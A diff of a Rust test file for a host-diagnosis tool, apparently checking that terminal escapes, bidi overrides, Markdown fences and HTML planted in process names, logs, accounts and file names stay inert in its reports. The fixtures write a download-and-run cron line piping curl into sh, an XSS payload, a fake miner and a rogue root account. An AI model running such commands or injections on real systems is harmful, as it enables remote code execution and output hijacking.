@@ -1,179 +1,231 @@
-//! Hostile hosts (issue 19): files that never end, symlink loops under /etc/ssh, a FIFO nobody
-//! writes, a huge crontab. Not timed: each run must end with a valid, bounded report in which
-//! every check has a result, no probe panicked, and the checks say what they could not read or
-//! what they cut. The timings at scale are `benches/hostile.sh` (README "Large and hostile hosts").
+//! Hostile strings from the examined system, end to end: a fixture root whose process command
+//! line, cron line, kernel-log line, auth-log user names, account name and file name carry
+//! terminal escape sequences (CSI, OSC title, 8-bit CSI, BEL, backspace, CR), bidi overrides and
+//! isolates, Markdown fences and HTML. Every output a person reads (text, markdown, html, the
+//! `explain` page and the `ticket` previews) shows them inert; JSON keeps the exact text.
 
-use crate::common::*;
+use crate::common::{doctor_cmd, stdout};
+use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 
-/// A copy of the healthy fixture root to make hostile.
-fn healthy_copy() -> tempfile::TempDir {
-    let dir = tempfile::tempdir().expect("tempdir");
-    let status = std::process::Command::new("cp")
-        .arg("-a")
-        .arg(format!("{}/.", fixture_root("healthy").display()))
-        .arg(dir.path())
-        .status()
-        .expect("cp");
-    assert!(status.success(), "cp -a of the healthy root");
-    dir
+/// The hostile part every planted string carries.
+const EVIL: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}gnp.exe\u{2066}\u{8}\r``` <script>alert(1)</script><img src=x onerror=alert(2)>";
+
+/// Characters that must never reach a terminal or page raw.
+const RAW: &[char] = &['\u{1b}', '\u{7}', '\u{8}', '\r', '\u{9b}', '\u{202e}', '\u{2066}'];
+
+fn put(path: &Path, body: &str) {
+    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+    std::fs::write(path, body).expect("write");
 }
 
-/// Replaces `rel` under `root` with a symlink to `target`.
-fn link(root: &Path, rel: &str, target: &str) {
-    let at = root.join(rel);
-    std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
-    let _ = std::fs::remove_file(&at);
-    std::os::unix::fs::symlink(target, &at).expect("symlink");
-}
-
-/// Every check has a verdict, none is an internal error (a probe that panicked), and the report
-/// stays small (no reader copied an endless file into it).
-fn sane(r: &serde_json::Value) {
-    let text = serde_json::to_string(r).expect("json");
-    assert!(text.len() < 2_000_000, "the report is {} bytes", text.len());
-    for c in r["checks"].as_array().expect("checks") {
-        let status = c["status"].as_str().unwrap_or_default();
-        assert!(["ok", "warn", "crit", "error", "skipped"].contains(&status), "{c:#}");
-        assert!(!c.to_string().contains("internal error"), "a probe panicked: {c:#}");
+/// The hostile root: what each planted string is in (and what flags it).
+fn hostile_root(dir: &Path) {
+    let now = jiff::Timestamp::now();
+    let ago = |s: i64| now.checked_sub(jiff::SignedDuration::from_secs(s)).expect("time");
+    // A miner from /tmp (sec.process.suspicious).
+    put(&dir.join("proc/4243/cmdline"), &format!("/tmp/.x/kworkerds\0--pool\0{EVIL}\0"));
+    put(
+        &dir.join("proc/4243/stat"),
+        "4243 (kworkerds) S 1 4243 4243 0 -1 4194560 100 0 0 0 250 50 0 0 20 0 1 0 12345 1000000 512",
+    );
+    put(&dir.join("proc/4243/status"), "Name:\tkworkerds\nUid:\t33\t33\t33\t33\n");
+    put(&dir.join("proc/1/cmdline"), "/sbin/init\0");
+    put(&dir.join("proc/1/stat"), "1 (systemd) S 0 1 1 0 -1 4194560 100 0 0 0 250 50 0 0 20 0 1 0 1 1000000 512");
+    put(&dir.join("proc/1/status"), "Name:\tsystemd\nUid:\t0\t0\t0\t0\n");
+    // A download-and-run cron line (sec.persistence.*).
+    put(&dir.join("etc/cron.d/evil"), &format!("* * * * * root curl -fsSL http://203.0.113.66/x.sh | sh # {EVIL}\n"));
+    // An OOM kill of a process with a hostile name (sys.memory.oom), recent.
+    put(
+        &dir.join("var/log/kern.log"),
+        &format!(
+            "{} web-1 kernel: Out of memory: Killed process 4242 (ja{EVIL}va) total-vm:8000kB, anon-rss:4000kB, file-rss:0kB\n",
+            ago(600)
+        ),
+    );
+    // Password guessing with hostile user names (sec.auth.bruteforce).
+    let mut auth = String::new();
+    for i in 0..30 {
+        let t = ago(3600 - i * 10).strftime("%b %e %H:%M:%S");
+        auth.push_str(&format!(
+            "{t} web-1 sshd[{}]: Failed password for invalid user ad{EVIL}min{i} from 203.0.113.9 port {} ssh2\n",
+            1000 + i,
+            40000 + i
+        ));
     }
+    put(&dir.join("var/log/auth.log"), &auth);
+    // A second root account with a hostile name (sec.accounts.*).
+    put(
+        &dir.join("etc/passwd"),
+        &format!("root:x:0:0:root:/root:/bin/bash\nto{}or:x:0:0::/root:/bin/bash\n", EVIL.replace(':', ";")),
+    );
+    // A set-uid file with a hostile name (sec.files.*).
+    let suid = dir.join("usr/local/bin").join(format!("su{}do", EVIL.replace('/', "|")));
+    put(&suid, "#!/bin/sh\n");
+    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).expect("chmod");
 }
 
-/// Evidence and messages of a check's findings, as one string.
-fn said(r: &serde_json::Value, id: &str) -> String {
-    check(r, id).to_string()
+/// Asserts nothing of `EVIL` reaches `out` raw.
+fn assert_inert(what: &str, out: &str) {
+    for c in RAW {
+        assert!(!out.contains(*c), "{what}: a raw {c:?} got through:\n{out}");
+    }
+    // Shown visibly: `\x1b`, or JSON's `\u001b` in a JSON body.
+    assert!(out.contains("\\x1b[2J") || out.contains("\\u001b[2J"), "{what}: the escape is not shown visibly:\n{out}");
 }
 
-/// /proc files, configuration files and logs that never end (symlinks to /dev/zero and
-/// /dev/urandom, as a corrupt or malicious rescued disk can hold): every reader stops at its cap.
-#[test]
-fn files_that_never_end() {
-    const ENDLESS: &[&str] = &[
-        "proc/meminfo",
-        "proc/loadavg",
-        "proc/stat",
-        "proc/uptime",
-        "proc/diskstats",
-        "proc/net/tcp",
-        "proc/net/udp",
-        "proc/net/route",
-        "proc/net/dev",
-        "proc/self/mountinfo",
-        "proc/sys/fs/file-nr",
-        "proc/4242/stat",
-        "proc/4242/status",
-        "proc/4242/cmdline",
-        "etc/ssh/sshd_config",
-        "etc/crontab",
-        "etc/fstab",
-        "etc/resolv.conf",
-        "etc/shadow",
-        "etc/sudoers",
-        "etc/passwd",
-        "etc/group",
-        "var/log/auth.log",
-        "var/log/kern.log",
-    ];
-    for dev in ["/dev/zero", "/dev/urandom"] {
-        let root = healthy_copy();
-        for rel in ENDLESS {
-            link(root.path(), rel, dev);
+/// In Markdown, no planted string opens or closes a code block: every line that starts with a
+/// fence (after up to three spaces) is one of the renderer's own, a planted fence sits inside a
+/// block opened by a longer one or mid-line (where it opens nothing), and the planted HTML is
+/// only inside a block or escaped.
+fn assert_markdown_fenced(md: &str) {
+    let mut open: Option<usize> = None;
+    for line in md.lines() {
+        let t = line.trim_start();
+        let indent = line.len() - t.len();
+        let ticks = t.chars().take_while(|c| *c == '`').count();
+        let is_fence = ticks >= 3 && indent <= 3 + 2; // list items indent their blocks by 2
+        let inside = open.is_some();
+        if is_fence {
+            assert!(!line.contains("gnp.exe"), "a planted string starts a fence line: {line}");
+            match open {
+                Some(n) if ticks >= n && t[ticks..].trim().is_empty() => open = None,
+                None => open = Some(ticks),
+                _ => {}
+            }
+            continue;
         }
-        let Some((r, code)) = run_json(root.path(), &[]) else { return };
-        assert!(code <= 3, "{dev}: exit {code}");
-        sane(&r);
-        // Every message and evidence line is bounded (values quoted from a file are cut).
-        for c in r["checks"].as_array().expect("checks") {
-            let summary = c["summary"].as_str().unwrap_or_default().chars().count();
-            assert!(summary < 2500, "{dev}: {}: summary of {summary} characters", c["id"]);
-        }
-        if dev == "/dev/zero" {
-            // What could not be understood is said, and what is quoted of it is cut short.
-            let load = check(&r, "sys.cpu.load");
-            assert_eq!(load["status"], "error", "{dev}: {load:#}");
-            let message = load["findings"][0]["message"].as_str().unwrap_or_default();
-            assert!(message.contains("not in the expected format"), "{dev}: {load:#}");
-            assert!(message.chars().count() < 2200 && message.ends_with('…'), "{dev}: {message:.300}");
-            let memory = said(&r, "sys.memory.available");
-            assert!(memory.contains("truncated or corrupt"), "{dev}: {memory:.2000}");
-        }
-        for c in r["checks"].as_array().expect("checks") {
-            for f in c["findings"].as_array().into_iter().flatten() {
-                for e in f["evidence"].as_array().into_iter().flatten() {
-                    let n = e.as_str().unwrap_or_default().chars().count();
-                    assert!(n <= 2001, "{dev}: {}: evidence of {n} characters", c["id"]);
-                }
+        if !inside {
+            // Outside a block, raw only inside an inline code span (literal there).
+            let spans = code_spans(line);
+            for (at, _) in line.match_indices("<script>") {
+                assert!(spans.iter().any(|(a, b)| *a < at && at < *b), "raw HTML outside code in markdown: {line}");
             }
         }
+        if inside && line.contains("gnp.exe") {
+            let n = open.unwrap_or(0);
+            let longest = line.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+            assert!(longest < n, "a planted fence as long as the block's ({n}): {line}");
+        }
     }
+    assert!(open.is_none(), "a fence is left open at the end of the markdown");
 }
 
-/// Symlink loops under /etc/ssh: an Include glob that matches a link to itself and two links to
-/// each other, an Include through a directory link to its parent, a host key linked to itself.
-/// The run ends; the SSH checks name the loop (ELOOP) instead of judging a config they could not
-/// read (sshd itself refuses to start on an unreadable Include).
-#[test]
-fn symlink_loops_under_etc_ssh() {
-    let root = healthy_copy();
-    let ssh = root.path().join("etc/ssh");
-    link(root.path(), "etc/ssh/sshd_config.d/loop.conf", "loop.conf");
-    link(root.path(), "etc/ssh/sshd_config.d/a.conf", "b.conf");
-    link(root.path(), "etc/ssh/sshd_config.d/b.conf", "a.conf");
-    link(root.path(), "etc/ssh/sshd_config.d/up", "..");
-    link(root.path(), "etc/ssh/self", ".");
-    link(root.path(), "etc/ssh/ssh_host_loop_key", "ssh_host_loop_key");
-    let mut config = std::fs::read_to_string(ssh.join("sshd_config")).expect("sshd_config");
-    config.push_str(
-        "Include /etc/ssh/sshd_config.d/*.conf\nInclude /etc/ssh/self/self/self/sshd_config\n\
-         Include /etc/ssh/sshd_config.d/up/sshd_config.d/up/*\n",
-    );
-    std::fs::write(ssh.join("sshd_config"), config).expect("write");
-    let Some((r, code)) = run_json(root.path(), &[]) else { return };
-    assert!(code <= 3);
-    sane(&r);
-    for id in ["sec.ssh.root-login", "sec.ssh.password-auth", "sec.ssh.empty-passwords"] {
-        assert_eq!(status_of(&r, id), "error", "{:#}", check(&r, id));
-        assert!(said(&r, id).contains("ELOOP"), "{:#}", check(&r, id));
-    }
-}
-
-/// A FIFO nobody writes where sshd_config and /proc/meminfo should be: opening it blocks
-/// forever. The checks that read them end at their timeout, the run at its deadline.
-#[test]
-fn a_fifo_nobody_writes_ends_at_the_deadline() {
-    let root = healthy_copy();
-    for rel in ["etc/ssh/sshd_config", "proc/meminfo"] {
-        let at = root.path().join(rel);
-        std::fs::remove_file(&at).expect("rm");
-        let ok = std::process::Command::new("mkfifo").arg(&at).status().expect("mkfifo");
-        assert!(ok.success(), "mkfifo {rel}");
-    }
-    let Some((r, code)) =
-        run_json(root.path(), &["--deadline", "2", "--only", "sec.ssh.root-login", "--only", "sys.memory"])
-    else {
-        return;
+/// The byte ranges of a line's inline code spans as CommonMark finds them: a run of N
+/// backticks opens one that the next run of exactly N backticks closes; a run with no such
+/// partner is literal text.
+fn code_spans(line: &str) -> Vec<(usize, usize)> {
+    let b = line.as_bytes();
+    let runs: Vec<(usize, usize)> = {
+        let mut v = Vec::new();
+        let mut i = 0;
+        while i < b.len() {
+            if b[i] == b'`' {
+                let start = i;
+                while i < b.len() && b[i] == b'`' {
+                    i += 1;
+                }
+                v.push((start, i - start));
+            } else {
+                i += 1;
+            }
+        }
+        v
     };
-    assert!(code <= 3);
-    sane(&r);
-    let c = check(&r, "sec.ssh.root-login");
-    assert_eq!(c["status"], "error", "{c:#}");
-    assert_eq!(c["findings"][0]["code"], "ETIMEDOUT", "{c:#}");
+    let mut spans = Vec::new();
+    let mut k = 0;
+    while k < runs.len() {
+        let (start, n) = runs[k];
+        match runs[k + 1..].iter().position(|(_, m)| *m == n) {
+            Some(p) => {
+                let (end, _) = runs[k + 1 + p];
+                spans.push((start, end + n));
+                k += p + 2;
+            }
+            None => k += 1,
+        }
+    }
+    spans
 }
 
-/// A 10 MB crontab of suspicious lines: the reader keeps the first 1 MiB and the check says so,
-/// and names 20 lines and how many more there are instead of a finding per line.
 #[test]
-fn a_huge_crontab_is_cut_and_says_so() {
-    let root = healthy_copy();
-    let line = "* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n";
-    std::fs::write(root.path().join("etc/crontab"), line.repeat(10_000_000 / line.len())).expect("crontab");
-    let Some((r, code)) = run_json(root.path(), &["--only", "sec.persistence.cron"]) else { return };
-    assert_eq!(code, 2, "suspicious cron lines are crit");
-    sane(&r);
-    let c = check(&r, "sec.persistence.cron");
-    let findings = c["findings"].as_array().expect("findings");
-    assert_eq!(findings.len(), 20, "{c:#}");
-    let text = c.to_string();
-    assert!(text.contains("/etc/crontab: only the first 1024 KiB were read (file too large)"), "{text:.3000}");
-    assert!(text.contains("more suspicious lines not listed"), "{text:.3000}");
+fn hostile_strings_reach_no_output_raw_and_json_keeps_them_exact() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path().join("root");
+    hostile_root(&root);
+    let r = root.to_str().expect("utf-8 path");
+    let run = |fmt: &str| -> Option<String> {
+        let mut cmd = doctor_cmd(&["run", "--root", r, "--no-save", "--format", fmt])?;
+        let out = cmd.output().expect("spawn");
+        assert!(matches!(out.status.code(), Some(0..=2)), "{fmt}: {out:?}");
+        Some(stdout(&out))
+    };
+    let Some(json) = run("json") else { return };
+    let report: serde_json::Value = serde_json::from_str(&json).expect("json");
+    // JSON keeps the exact text (escaped by JSON): the planted strings come back byte for byte.
+    let mut exact = Vec::new();
+    fn walk(v: &serde_json::Value, out: &mut Vec<String>) {
+        match v {
+            serde_json::Value::String(s) => out.push(s.clone()),
+            serde_json::Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
+            serde_json::Value::Object(o) => o.values().for_each(|x| walk(x, out)),
+            _ => {}
+        }
+    }
+    walk(&report, &mut exact);
+    let carrying: Vec<&String> =
+        exact.iter().filter(|s| s.contains(EVIL) || s.contains(&EVIL.replace(':', ";"))).collect();
+    assert!(carrying.len() >= 4, "the planted strings are not all in the JSON exactly: {carrying:#?}");
+    for c in RAW.iter().filter(|c| **c as u32 >= 0x80) {
+        assert!(!json.contains(*c), "JSON on stdout carries a raw {c:?}: it is escaped as \\u....");
+    }
+    // Which checks saw them: the test is about the path through each, so each must have.
+    let flagged = |id: &str| -> String {
+        report["checks"]
+            .as_array()
+            .and_then(|a| a.iter().find(|c| c["id"] == id))
+            .map(|c| c["findings"].to_string())
+            .unwrap_or_default()
+    };
+    for id in ["sys.memory.oom", "sec.auth.bruteforce"] {
+        assert!(flagged(id).contains("gnp.exe"), "{id} did not see the planted string: {}", flagged(id));
+    }
+
+    for fmt in ["text", "markdown", "html"] {
+        let Some(out) = run(fmt) else { return };
+        assert_inert(fmt, &out);
+        match fmt {
+            "html" => {
+                assert!(!out.contains("<script>alert") && !out.contains("<img src=x"), "raw HTML in the page");
+                assert!(out.contains("&lt;script&gt;"), "the planted HTML is not shown escaped");
+            }
+            "markdown" => assert_markdown_fenced(&out),
+            _ => {}
+        }
+    }
+
+    // The ticket previews: the file backend's Markdown, the webhook's JSON body.
+    for extra in [&[][..], &["--backend", "webhook", "--endpoint", "http://127.0.0.1:9/hook"][..]] {
+        let mut args = vec!["ticket", "--dry-run", "--root", r];
+        args.extend_from_slice(extra);
+        let Some(mut cmd) = doctor_cmd(&args) else { return };
+        cmd.env("ECS_DOCTOR_TICKET_DIR", dir.path().join("state"))
+            .env("ECS_DOCTOR_REPORT_DIR", dir.path().join("reports"))
+            .stdin(std::process::Stdio::null());
+        let out = cmd.output().expect("spawn");
+        assert_eq!(out.status.code(), Some(0), "{args:?}: {out:?}");
+        assert_inert(&format!("ticket {args:?}"), &stdout(&out));
+        let err = String::from_utf8_lossy(&out.stderr).into_owned();
+        for c in RAW {
+            assert!(!err.contains(*c), "ticket {args:?}: raw {c:?} on stderr: {err}");
+        }
+    }
+
+    // `explain` prints the check's own texts and the config's thresholds: nothing of the system.
+    let Some(mut cmd) = doctor_cmd(&["explain", "sec.process.suspicious"]) else { return };
+    let out = cmd.output().expect("spawn");
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    for c in RAW {
+        assert!(!stdout(&out).contains(*c), "explain: raw {c:?}");
+    }
 }
